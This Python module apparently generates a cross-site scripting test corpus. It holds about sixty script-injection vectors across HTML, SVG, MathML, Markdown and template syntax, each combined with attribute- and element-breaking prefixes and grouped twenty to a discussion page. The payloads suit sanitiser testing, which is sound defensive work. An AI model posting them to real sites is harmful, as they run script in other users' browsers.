"""Payloads that begin a script where a page lets them: in text, in attributes, in addresses, in Markdown."""

from itertools import product

CALL = "window.attacked=1;alert(1)"
#: Elements that run something as soon as they stand in a page.
ELEMENTS = (
    "<script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<script src=data:text/javascript,{c}></script>",
    "<script/x>{c}</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<img src=x onerror={c}>",
    "<img/src=x/onerror={c}>",
    "<img src=x onerror\n=\n{c}>",
    "<svg onload={c}>",
    "<svg/onload={c}//",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set onbegin={c} attributeName=x>",
    "<svg><a xlink:href=javascript:{c}><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={c}>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={c}>",
    "<body onload={c}>",
    "<iframe src=javascript:{c}></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<object data=javascript:{c}></object>",
    "<embed src=javascript:{c}>",
    "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "<video><source onerror={c}>",
    "<video src=x onerror={c}>",
    "<audio src=x onerror={c}>",
    "<marquee onstart={c}>",
    "<link rel=stylesheet href=x onerror={c}>",
    "<style onload={c}></style>",
    "<style>@import 'javascript:{c}';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href=javascript:{c}//>",
    "<form action=javascript:{c}><button autofocus>x</button></form>",
    "<a href=javascript:{c} autofocus>x</a>",
    "<a href='java&#115;cript:{c}'>x</a>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<xmp><p title='</xmp><img src=x onerror={c}>'>",
    "<!--><img src=x onerror={c}>-->",
    "<![CDATA[<img src=x onerror={c}>]]>",
    "<?php echo 1 ?><img src=x onerror={c}>",
    "<p style=background:url(javascript:{c})>x</p>",
    "<x onpointerrawupdate={c} onclick={c} tabindex=1 autofocus onfocus={c}>x</x>",
    "[x](javascript:{c})",
    "[x](JaVaScRiPt:{c})",
    "[x](java\tscript:{c})",
    "[x](data:text/html,<script>{c}</script>)",
    '![x](x"onerror="{c})',
    "![x](javascript:{c})",
    "<javascript:{c}>",
    "[x]: javascript:{c}\n\n[x]",
    "`<img src=x onerror={c}>`",
    "```\n<script>{c}</script>\n```",
    "> <img src=x onerror={c}>",
    "- <svg onload={c}>",
    "{{{{constructor.constructor('{c}')()}}}}",
    "${{{c}}}",
    "{{% autoescape off %}}<script>{c}</script>{{% endautoescape %}}",
)
#: What may close the place where the text stands: nothing, an attribute, an element, a script's text.
BREAKS = ("", '">', "'>", "</textarea>", '</title></script>" autofocus onfocus=alert(1) x="')

PAYLOADS = tuple(before + element.format(c=CALL) for before, element in product(BREAKS, ELEMENTS))
GROUPS = tuple(PAYLOADS[start : start + 20] for start in range(0, len(PAYLOADS), 20))
"""By twenty, as many as stand on one page of a discussion."""
